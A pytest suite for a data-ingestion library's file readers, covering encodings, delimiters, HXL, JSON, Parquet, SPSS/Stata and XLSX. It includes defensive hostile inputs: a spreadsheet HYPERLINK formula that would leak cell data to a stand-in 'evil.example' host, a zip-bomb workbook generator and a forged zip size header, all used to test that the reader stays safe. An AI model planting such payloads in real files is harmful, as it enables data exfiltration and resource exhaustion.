"""Readers: every bad input rejected or reported with the right line, every format and encoding read as text."""

from __future__ import annotations

import json
import os
import struct
import zipfile
from pathlib import Path

import duckdb
import pytest

from atlas.errors import RejectedInput
from atlas.ingest.readers import ReadLimits, Source, open_source


@pytest.fixture
def con() -> duckdb.DuckDBPyConnection:
    return duckdb.connect()


def rows(source: Source, con: duckdb.DuckDBPyConnection) -> list[tuple]:
    return source.relation(con).order("_row").fetchall()


def write(tmp_path: Path, name: str, data: bytes | str, encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
    return path


PNG = b"\x89PNG\r\n\x1a\n" + os.urandom(200)


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("empty.csv", b"", "empty-file"),
        ("blank.csv", b"\n\n  \n", "empty-file"),
        ("header.csv", b"a,b,c\n", "no-data-rows"),
        ("random.csv", bytes(range(256)) * 8, "binary-file"),
        ("image.csv", PNG, "unknown-format"),
        ("wide.csv", ",".join(f"h{i}" for i in range(3000)) + "\n" + ",".join("1" * 3000), "too-many-columns"),
    ],
)
def test_unreadable_files_are_rejected(tmp_path: Path, name: str, data: bytes | str, code: str) -> None:
    with pytest.raises(RejectedInput) as caught:
        open_source(write(tmp_path, name, data))
    assert caught.value.issues[0].code == code
    assert caught.value.issues[0].file == str(tmp_path / name)


def test_ragged_rows_reported_with_physical_lines(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    text = 'a,b,c\n1,2,3\n4,"multi\nline",6\n7,8\n9,10,11,12\n13,14,15\n'
    source = open_source(write(tmp_path, "ragged.csv", text), con=con)
    assert [(i.code, i.row) for i in source.issues] == [("ragged-row", 5), ("ragged-row", 6)]
    assert source.issues[0].value == "7,8"
    assert [(r[0], r[-1]) for r in rows(source, con)] == [("1", 2), ("4", 3), ("13", 7)]


def test_quoted_newlines_and_blank_lines_keep_row_numbers(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    text = 'id,note\n1,"a\nb\nc"\n\n2,plain\n3,"x\r\ny"\n4,z'
    source = open_source(write(tmp_path, "quoted.csv", text), con=con)
    assert [(r[0], r[-1]) for r in rows(source, con)] == [("1", 2), ("2", 6), ("3", 7), ("4", 9)]
    assert rows(source, con)[0][1] == "a\nb\nc"


def test_row_numbers_match_an_id_column(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    lines = ["line,v"] + [f"{n},{n * 3}" for n in range(2, 30_002)]
    source = open_source(write(tmp_path, "ids.csv", "\n".join(lines) + "\n"), con=con)
    bad = source.relation(con).filter("CAST(c_line AS BIGINT) <> _row").count("*").fetchone()
    assert bad == (0,)


def test_huge_field_is_reported_not_fatal(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:
        handle.write(b"id,text\n1,short\n2,")
        chunk = b"x" * (1 << 20)
        for _ in range(100):
            handle.write(chunk)
        handle.write(b"\n3,fine\n")
    source = open_source(path, con=con)
    assert [(i.code, i.row) for i in source.issues] == [("field-too-long", 3)]
    assert len(source.issues[0].value or "") <= 201
    assert [(r[0], r[-1]) for r in rows(source, con)] == [("1", 2), ("3", 4)]


def test_duplicate_headers_kept_distinct(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    source = open_source(write(tmp_path, "dup.csv", "sex,age,sex\nF,3,M\n"), con=con)
    assert [c.name for c in source.columns] == ["c_sex", "c_age", "c_sex_2"]
    assert [c.original for c in source.columns] == ["sex", "age", "sex"]
    assert [i.code for i in source.issues] == ["duplicate-header"]
    assert rows(source, con) == [("F", "3", "M", 2)]


def test_formula_cells_stay_verbatim(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = 'name,link\n"@SUM(1+1)","' + formula.replace('"', '""') + '"\n'
    source = open_source(write(tmp_path, "formula.csv", text), con=con)
    assert rows(source, con) == [("@SUM(1+1)", formula, 2)]


ENCODED = "name,town\nJosé,Zürich\nŒuvre – “quoted”,Köln\n"


@pytest.mark.parametrize(
    ("encoding", "prefix", "expected"),
    [
        ("utf-8", b"", "utf-8"),
        ("utf-8", b"\xef\xbb\xbf", "utf-8-sig"),
        ("utf-16-le", b"\xff\xfe", "utf-16-le"),
        ("utf-16-be", b"\xfe\xff", "utf-16-be"),
        ("cp1252", b"", "cp1252"),
    ],
)
def test_every_encoding(tmp_path: Path, con: duckdb.DuckDBPyConnection, encoding: str, prefix: bytes,
                        expected: str) -> None:
    path = write(tmp_path, "enc.csv", prefix + ENCODED.encode(encoding))
    source = open_source(path, con=con)
    assert source.encoding == expected
    assert [c.original for c in source.columns] == ["name", "town"]
    assert rows(source, con) == [("José", "Zürich", 2), ("Œuvre – “quoted”", "Köln", 3)]


def test_latin1_bytes_in_a_utf8_named_file_are_decoded(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    path = write(tmp_path, "declared-utf8.csv", "país,año\nPanamá,2015\nMéxico,2016\n".encode("latin-1"))
    source = open_source(path, con=con)
    assert source.encoding == "latin-1"
    assert rows(source, con) == [("Panamá", "2015", 2), ("México", "2016", 3)]


def test_transcoded_ragged_rows(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    path = write(tmp_path, "bad.csv", "a,b\né,1\nx\ny,2,3\nz,\"q\nq\"\nw,4\n".encode("latin-1"))
    source = open_source(path, con=con)
    assert [(i.code, i.row) for i in source.issues] == [("ragged-row", 3), ("ragged-row", 4)]
    assert [(r[0], r[-1]) for r in rows(source, con)] == [("é", 2), ("z", 5), ("w", 7)]


@pytest.mark.parametrize(
    ("name", "text", "delimiter"),
    [
        ("t.tsv", "a\tb\tc\n1\t2,5\t3\n", "\t"),
        ("t.csv", "a;b;c\n1;2,5;3\n4;5;6\n", ";"),
        ("p.csv", "a|b|c\n1|2|3\n", "|"),
        ("c.csv", "a,b,c\n1,\"2;5\",3\n", ","),
    ],
)
def test_delimiter_sniffing(tmp_path: Path, con: duckdb.DuckDBPyConnection, name: str, text: str,
                            delimiter: str) -> None:
    source = open_source(write(tmp_path, name, text), con=con)
    assert source.delimiter == delimiter
    assert len(source.columns) == 3


def test_hxl_detection(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    text = "Title of the table,,\nDistrict,P-code,People\n#adm2+name,#adm2 +Code,#affected\nA,X1,3\n"
    source = open_source(write(tmp_path, "h.csv", text), con=con)
    assert source.format == "hxl"
    assert [c.hxl for c in source.columns] == ["#adm2+name", "#adm2+code", "#affected"]
    assert [c.original for c in source.columns] == ["District", "P-code", "People"]
    assert rows(source, con) == [("A", "X1", "3", 4)]


def test_kobo_group_headers(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    text = "start,group_hh/sex,group_hh/age,g1/name,g2/name\n1,F,3,a,b\n"
    source = open_source(write(tmp_path, "kobo.csv", text), con=con)
    assert [c.name for c in source.columns] == ["c_start", "c_sex", "c_age", "c_g1_name", "c_g2_name"]
    assert source.columns[1].original == "group_hh/sex"


def test_header_row_forced(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    source = open_source(write(tmp_path, "t.csv", "report\n\nx,y\n1,2\n"), header_row=3, con=con)
    assert [c.original for c in source.columns] == ["x", "y"]
    assert rows(source, con) == [("1", "2", 4)]


def test_json_array_wrapper_and_ndjson(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    records = [{"a": 1, "b": "x"}, {"a": 2, "c": {"n": 1}}]
    array = open_source(write(tmp_path, "a.json", json.dumps(records)), con=con)
    assert rows(array, con) == [("1", "x", None, 1), ("2", None, '{"n":1}', 2)]
    wrapped = open_source(write(tmp_path, "w.json", json.dumps({"result": records, "errors": []})), con=con)
    assert rows(wrapped, con) == rows(array, con)
    nd = open_source(write(tmp_path, "n.ndjson", "\n".join(json.dumps(r) for r in records)), con=con)
    assert [r[-1] for r in rows(nd, con)] == [1, 2]


def test_parquet(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    path = tmp_path / "p.parquet"
    con.execute(f"COPY (SELECT range AS n, 'v' || range AS s FROM range(3)) TO '{path}'")
    source = open_source(path, con=con)
    assert rows(source, con) == [("0", "v0", 2), ("1", "v1", 3), ("2", "v2", 4)]


@pytest.mark.parametrize("suffix", [".sav", ".dta"])
def test_spss_and_stata_with_value_labels(tmp_path: Path, con: duckdb.DuckDBPyConnection, suffix: str) -> None:
    import pandas as pd
    import pyreadstat

    frame = pd.DataFrame({"sex": [1.0, 2.0, 1.0], "age": [30.0, 41.5, None], "town": ["a", "b", "c"]})
    path = tmp_path / f"s{suffix}"
    writer = pyreadstat.write_sav if suffix == ".sav" else pyreadstat.write_dta
    writer(frame, str(path), variable_value_labels={"sex": {1: "female", 2: "male"}})
    source = open_source(path, con=con)
    assert source.format == suffix[1:]
    assert rows(source, con) == [("female", "30", "a", 2), ("male", "41.5", "b", 3), ("female", None, "c", 4)]


def _xlsx(path: Path, rows_: list[list[object]]) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows_:
        sheet.append(row)
    book.save(path)
    return path


def test_xlsx_title_rows_multirow_header_and_formula_text(tmp_path: Path, con: duckdb.DuckDBPyConnection) -> None:
    path = _xlsx(tmp_path / "t.xlsx", [
        ["Migrant stock"], [None], [None, "Both", None, "Male", None],
        ["Country", 2015, 2020, 2015, 2020], ["Chad", 5, 6, 2, 3], ["=HYPERLINK(\"x\")", 1, 1, 1, 1],
    ])
    source = open_source(path, con=con)
    assert [c.original for c in source.columns] == ["Country", "Both / 2015", "Both / 2020", "Male / 2015",
                                                    "Male / 2020"]
    assert rows(source, con)[0] == ("Chad", "5", "6", "2", "3", 5)


def _bomb(path: Path, size: int) -> Path:
    """A valid workbook with one member of `size` zero bytes: tiny on disk, huge inflated."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = b"\0" * (1 << 20)
            for _ in range(size >> 20):
                member.write(block)
    return path


def test_zip_bomb_rejected_before_parsing(tmp_path: Path) -> None:
    path = _bomb(tmp_path / "bomb.xlsx", 64 << 20)
    with pytest.raises(RejectedInput) as caught:
        open_source(path)
    assert caught.value.issues[0].code == "zip-bomb"
    with pytest.raises(RejectedInput):
        open_source(path, limits=ReadLimits(max_xlsx_uncompressed=1 << 20, max_xlsx_ratio=10**9))


def test_forged_declared_size_rejected(tmp_path: Path) -> None:
    path = _bomb(tmp_path / "forged.xlsx", 2 << 20)
    data = bytearray(path.read_bytes())
    central = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 0xFFFFFFF0)
    path.write_bytes(bytes(data))
    with pytest.raises(RejectedInput):
        open_source(path)


# Real files written by others, read in place.

def test_dtm_hxl(shared_data: Path, con: duckdb.DuckDBPyConnection) -> None:
    source = open_source(shared_data / "migration/iom_dtm/global-iom-dtm-from-api-admin-0-to-2.hxl.csv", con=con)
    assert source.format == "hxl"
    assert source.relation(con).count("*").fetchone() == (13_367,)
    tags = {c.original: c.hxl for c in source.columns}
    assert tags["admin1Pcode"] == "#adm1+code"
    assert source.relation(con).min("_row").fetchone() == (3,)


def test_hapi_bom(shared_data: Path, con: duckdb.DuckDBPyConnection) -> None:
    source = open_source(shared_data / "migration/iom_dtm/hdx_hapi_idps_global.csv", con=con)
    assert source.encoding == "utf-8-sig"
    assert source.columns[0].original == "location_code"


def test_dtm_json(shared_data: Path, con: duckdb.DuckDBPyConnection) -> None:
    source = open_source(shared_data / "migration/iom_dtm/api_displacement-admin1-admin0pcode-hti.json", con=con)
    assert source.relation(con).count("*").fetchone() == (235,)


def test_undesa_workbook(shared_data: Path, con: duckdb.DuckDBPyConnection) -> None:
    path = shared_data / "migration/undesa_2020_raw_xlsx/undesa_pd_2020_ims_stock_by_sex_and_destination.xlsx"
    for source in (open_source(path, sheet="Table 1", con=con), open_source(path, sheet="Table 1", header_row=11)):
        names = {c.original: c.name for c in source.columns}
        both_2020 = names["International migrant stock at mid-year, both sexes combined / 2020"]
        place = names["Region, development group, country or area"]
        world = source.relation(con).filter(f"{place} = 'WORLD'").project(f"{both_2020}, _row").fetchall()
        assert world == [("280598105", 12)]


@pytest.mark.parametrize(
    ("name", "tagged"),
    [
        ("test_io_input-valid.csv", True), ("test_io_input-valid-latin1.csv", True),
        ("test_io_input-multiple-headers.csv", True), ("test_io_input-valid.xlsx", True),
        ("test_io_input-valid.json", True), ("test_io_input-untagged.csv", False),
        ("test_io_input-invalid.csv", False), ("test_io_input-valid-objects.json", False),
    ],
)
def test_hxl_validator_files(shared_data: Path, con: duckdb.DuckDBPyConnection, name: str, tagged: bool) -> None:
    source = open_source(shared_data / "validators/hxl" / name, con=con)
    assert any(c.hxl for c in source.columns) is tagged
    assert source.relation(con).count("*").fetchone()[0] >= 2  # type: ignore[index]


def test_latin1_hxl_values(shared_data: Path, con: duckdb.DuckDBPyConnection) -> None:
    source = open_source(shared_data / "validators/hxl/test_io_input-valid-latin1.csv", con=con)
    assert source.columns[3].original == "Organización"
    assert rows(source, con)[0][6] == "Panamá"


@pytest.mark.parametrize("name", ["sdc/sdcmicro_testdata.csv", "sdc/tauargus/cellkey_magnitude/microdata.csv"])
def test_sdc_files(shared_data: Path, con: duckdb.DuckDBPyConnection, name: str) -> None:
    source = open_source(shared_data / name, con=con)
    assert source.relation(con).count("*").fetchone()[0] > 4000  # type: ignore[index]
